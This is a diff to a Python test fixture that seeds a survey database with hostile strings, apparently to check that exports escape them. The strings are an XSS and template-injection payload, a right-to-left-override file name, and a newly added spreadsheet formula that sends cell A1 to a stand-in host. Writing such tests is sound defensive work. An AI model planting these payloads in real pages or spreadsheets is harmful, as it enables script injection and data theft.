@@ -8,6 +8,7 @@ from prober import evidence
 from tests.prober.conftest import SCANNED, Survey
 
 HOSTILE = '</td></script><script>document.title="owned"</script><img src=x onerror=alert(1)>"\'`{{7*7}}\u202etxt.exe'
+FORMULA = '=HYPERLINK("https://x.test/?"&A1,"a\r\nb")'
 PNG = bytes.fromhex(
     "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f01f0005050102d1a9"
     "3d1d0000000049454e44ae426082"
@@ -35,10 +36,10 @@ def write(folder: Path, pobi_db: Path) -> Path:
             })  # fmt: skip
         _changed(survey, second)
         request = next(survey.db.query("SELECT id FROM request WHERE agency = '2019-stc-ca-mau'"))["id"]
-        reply = survey.reply(request, "A2", 40.0, 2, rule=HOSTILE, match_reason=HOSTILE, words=HOSTILE)
+        reply = survey.reply(request, "A2", 40.0, 2, rule=HOSTILE, match_reason=HOSTILE, words=FORMULA)
         for at, what, detail, of in (
             ("2020-04-14T08:30:00+07:00", "accepted", HOSTILE, None),
-            ("2020-04-16T00:30:00+07:00", "A2", HOSTILE, reply),
+            ("2020-04-16T00:30:00+07:00", "A2", FORMULA, reply),
         ):
             survey.db.table("request_event").insert(
                 {"request": request, "at": at, "step": "request", "what": what, "detail": detail, "reply": of}
